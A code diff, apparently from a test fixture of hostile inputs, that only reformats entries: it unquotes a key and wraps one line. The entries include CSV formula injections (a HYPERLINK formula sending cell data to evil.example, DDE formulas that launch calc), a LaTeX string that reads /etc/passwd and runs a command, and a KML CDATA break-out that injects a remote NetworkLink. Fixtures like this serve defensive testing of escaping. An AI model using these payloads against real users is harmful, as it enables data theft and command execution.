@@ -8,7 +8,7 @@ import { ADDRESSES, LETTERS, MARKUP } from "../hostileTexts";
 export const ADDRESS_MARK = "address:";
 
 const FORMULAS = {
-  "formula": "=1+1",
+  formula: "=1+1",
   "formula with a link": '=HYPERLINK("https://evil.example/?"&A1,"x")',
   "formula that runs a program": "=cmd|' /C calc'!A0",
   plus: "+1+cmd|' /C calc'!A0",
@@ -40,7 +40,8 @@ const INJECTIONS = {
   "command of LaTeX": "\\input{/etc/passwd}\\write18{calc}",
   "brace left open": "{{{{",
   "brace left closed": "}}}}",
-  "end of CDATA in KML": "]]></description><NetworkLink><Link><href>https://evil.example/</href></Link></NetworkLink>",
+  "end of CDATA in KML":
+    "]]></description><NetworkLink><Link><href>https://evil.example/</href></Link></NetworkLink>",
   "picture in a KML balloon": '<img src="https://evil.example/x.png">',
   "KML entity": "$[name] $[$[name]]",
   "JSON in JSON": '","type":"Feature","x":"',
